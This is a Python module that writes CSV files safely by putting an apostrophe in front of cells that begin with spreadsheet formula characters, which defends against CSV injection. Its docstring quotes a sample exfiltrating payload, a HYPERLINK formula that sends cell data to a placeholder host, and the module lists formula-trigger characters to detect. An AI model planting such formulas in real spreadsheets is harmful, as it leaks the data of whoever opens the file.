"""The one CSV writer of copkg: every CSV file copkg writes goes through :func:`write_csv`.

Spreadsheet programs run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
tab, carriage return or NUL) as a formula, so a name such as ``=HYPERLINK("http://x/?"&A1)``
imported from a partner's file would run on the reader's machine (CSV or formula injection,
OWASP / CWE-1236). Such a **text** cell is written with a leading apostrophe (``'=HYPERLINK…``),
which spreadsheets show as text and the copkg importer strips again (see :func:`restore`).
Numbers are data, not formulas: numeric columns, and text that is exactly a number such as
``-0.5``, are written unchanged, so ``pandas.read_csv`` reads them back as numbers. Values in the
store are never changed; only what is written to the file.

>>> import pandas as pd
>>> df = pd.DataFrame({"name": ["=1+1", "Ana", "-0.5"], "weight": [-0.5, 2.0, 1e-20]})
>>> print(write_csv(df), end="")
name,weight
'=1+1,-0.5
Ana,2.0
-0.5,1e-20
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "csv_bytes", "neutralise", "neutralised", "restore", "write_csv"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection, ASVS
#: 1.2.10), with the full-width forms some spreadsheet locales fold into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Text that is exactly a number is read as that number, never as a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: formula-like text gets a leading ``'``.

    Anything that is not text (numbers, booleans, missing values) is returned unchanged.

    >>> neutralise("=HYPERLINK(\\"http://x\\")"), neutralise("@SUM(1+1)"), neutralise("-2+3")
    ('\\'=HYPERLINK("http://x")', "'@SUM(1+1)", "'-2+3")
    >>> neutralise("-0.5"), neutralise(-0.5), neutralise("Ana-Maria"), neutralise(None)
    ('-0.5', -0.5, 'Ana-Maria', None)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def restore(cell: str) -> str:
    """The value :func:`neutralise` protected: ``'=x`` → ``=x``; any other text unchanged.

    The importer calls this on every cell so that a CSV written by copkg re-imports the
    same values.

    >>> restore("'=1+1"), restore("'quoted'"), restore("=1+1")
    ('=1+1', "'quoted'", '=1+1')
    """
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) and not _NUMBER.match(
        cell[1:]
    ):
        return cell[1:]
    return cell


def neutralised(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and column names) are neutralised.

    Numeric, boolean and datetime columns are not touched, so their dtype stays.
    """
    out = df.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series):
            out[column] = series.map(neutralise)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(
    table: pd.DataFrame | Iterable[Sequence[Any]],
    out: str | Path | None = None,
    *,
    bom: bool = False,
) -> str:
    """Write ``table`` as CSV (UTF-8, ``\\n`` line ends, header first), neutralising formulas.

    ``table`` is a DataFrame (written without its index) or rows whose first row is the header.
    With ``out`` the text is also written to that file (``bom=True`` adds the UTF-8 byte-order
    mark that spreadsheet programs need to read accents and Arabic). Returns the CSV text.

    >>> print(write_csv([["id", "name"], ["p1", "+33 1 23"]]), end="")
    id,name
    p1,'+33 1 23
    """
    if isinstance(table, pd.DataFrame):
        text = neutralised(table).to_csv(index=False, lineterminator="\n")
    else:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(
            [neutralise(cell) for cell in row] for row in table
        )
        text = buffer.getvalue()
    if out is not None:
        Path(out).write_text(text, encoding="utf-8-sig" if bom else "utf-8", newline="")
    return text


def csv_bytes(table: pd.DataFrame | Iterable[Sequence[Any]], *, bom: bool = False) -> bytes:
    """:func:`write_csv` as UTF-8 bytes, for downloads and zip archives.

    >>> csv_bytes([["a"], ["=1"]], bom=True)
    b"\\xef\\xbb\\xbfa\\n'=1\\n"
    """
    return write_csv(table).encode("utf-8-sig" if bom else "utf-8")
